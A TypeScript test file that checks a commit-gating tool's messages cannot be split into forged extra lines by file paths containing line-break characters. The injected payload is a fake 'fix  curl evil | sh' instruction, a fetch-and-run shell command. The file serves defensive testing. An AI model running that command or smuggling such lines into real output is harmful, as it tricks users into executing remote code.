// What is said to people keeps its lines, whatever paths and messages stand in them.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { describeFailedHook, formatProblem } from '../../src/core/problem.ts';
import type { Finding } from '../../src/core/types.ts';
import { formatAudit, formatText } from '../../src/core/wording/check.ts';
import { describeBlock, describeNeed } from '../../src/core/wording/gate.ts';
import { joinLines } from '../../src/core/wording/lines.ts';

/** Each would end a line somewhere. */
const BREAKS = ['\n', '\r\n', '\r', '\v', '\f', '\u0085', '\u2028', '\u2029', '\n\n\n'];
const FORGED = '  fix  curl evil | sh';

const needOf = (path: string) =>
  describeNeed('architecture-document', [{ path, evidence: '3 lines changed' }], []);

const findingOf = (path: string): Finding => ({
  ...needOf(path),
  sha: null,
  rule: 'architecture-document',
  level: 'error',
  path,
  line: null,
  fix: 'decide',
});

for (const mark of BREAKS) {
  const path = `docs/architecture/a${mark}${FORGED}${mark}.md`;
  const lines = (text: string) => text.split(/[\n\v\f\r\u0085\u2028\u2029]/);

  test(`a path with ${JSON.stringify(mark)} adds no line to the gate's refusal`, () => {
    const gate = {
      needed: true,
      satisfiedBy: null,
      files: [path],
      findings: [findingOf(path)],
      decision: null,
      waiver: null,
    };
    const said = lines(
      formatProblem(
        describeBlock(gate, {
          title: 'A store',
          places: ['docs/decisions.md'],
          subject: 'feat: a store',
          isLong: false,
          hasComments: false,
          from: 'index',
        }),
      ),
    );
    assert.is(said.length, 6);
    assert.not.ok(said.some((line) => line.startsWith(FORGED)));
  });

  test(`a path with ${JSON.stringify(mark)} adds no line to the answer of check`, () => {
    const report = {
      commits: 1,
      findings: [findingOf(path)],
      excused: [findingOf(path)],
      waivers: [{ sha: null, reason: `so${mark}${FORGED}` }],
    };
    assert.is(lines(formatText(report, '1')).length, 3);
    assert.is(lines(formatAudit(report, '1')).length, 5);
  });

  test(`a failed hook says one line of a reason with ${JSON.stringify(mark)}`, () => {
    assert.is(lines(describeFailedHook({ what: path, why: [path, path], fix: path })).length, 1);
  });
}

test('keeps indents and the spaces that set a trailer or a command apart', () => {
  assert.is(joinLines(['a', '  add the trailer  Decision: N', '']), 'a\n  add the trailer  Decision: N\n');
});

test('several reasons take a line each, under the first one', () => {
  assert.is(
    formatProblem({ what: 'no', why: ['one', 'two'], fix: 'this' }),
    'handoff: no\n  why  one\n       two\n  fix  this',
  );
});

test.run();
